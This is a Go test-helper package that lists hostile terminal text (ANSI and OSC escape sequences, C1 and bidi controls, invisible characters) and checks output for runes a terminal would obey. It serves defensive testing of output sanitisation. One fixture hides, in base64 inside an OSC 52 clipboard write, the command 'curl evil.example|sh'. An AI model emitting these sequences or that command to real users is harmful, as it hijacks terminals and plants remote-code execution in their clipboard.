// Package hostiletest holds, for tests, the kinds of hostile text outside
// data may carry and a check of output bytes that does not trust
// safetext: it names every rune a terminal would obey from its own list.
package hostiletest

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Kind is one kind of hostile text, and the visible form the start of
// Raw takes once cleaned (short enough to fit the narrowest column).
type Kind struct{ Name, Raw, Seen string }

// Kinds are the hostile texts every output edge is tested with.
var Kinds = []Kind{
	{"csi", "\x1b[2J\x1b[31mPAGO\x1b[0m", "^[[2J"},
	{"osc52", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07", "^[]52;c;"},
	{"osc0", "\x1b]0;pwned\x1b\\", "^[]0;pw"},
	{"c1", "\u009b2J\u009d52;c;QQ==\u009c", "<U+009B>"},
	{"bidi", "\u202eOGAP\u202c \u2066x\u2069", "<U+202E>"},
	{"zero-width", "\u200bJo\u200dão\ufeff\u2060", "<U+200B>"},
	{"newlines", "\nlinha2\r\n\tfim", "^Jlinha"},
	// 13,000 characters: an alternate-screen exit, a clear and a bidi
	// override a thousand times over.
	{"long", "\x1b]52;c;" + strings.Repeat("\x1b[?1049l\x1b[2J\u202e\u200b\u009b", 1000), "^[]52;c;"},
}

// All returns tag followed by every kind's raw text, one after another.
func All(tag string) string {
	var b strings.Builder
	b.WriteString(tag)
	for _, k := range Kinds {
		b.WriteString(k.Raw)
	}
	return b.String()
}

// Check returns an error naming the first rune of out that no output may
// carry as itself — a C0 control other than a line feed, DEL, a C1
// control, a bidi control, an invisible character, a line separator or
// a byte that is not UTF-8 — with its surroundings; nil when out is clean.
func Check(out string) error {
	for i, r := range out {
		if why := bad(r); why != "" {
			return fmt.Errorf("%s %U at byte %d: …%q…", why, r, i, out[max(0, i-40):min(len(out), i+40)])
		}
	}
	return nil
}

func bad(r rune) string {
	switch {
	case r == utf8.RuneError:
		return "invalid UTF-8"
	case r == '\n':
		return ""
	case r < 0x20 || r == 0x7f:
		return "C0 control or DEL"
	case r >= 0x80 && r <= 0x9f:
		return "C1 control"
	case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
		return "bidi control"
	case r >= 0x200b && r <= 0x200d, r >= 0x2060 && r <= 0x2064, r == 0xfeff, r == 0x00ad:
		return "invisible character"
	case r == 0x2028 || r == 0x2029:
		return "line separator"
	}
	return ""
}
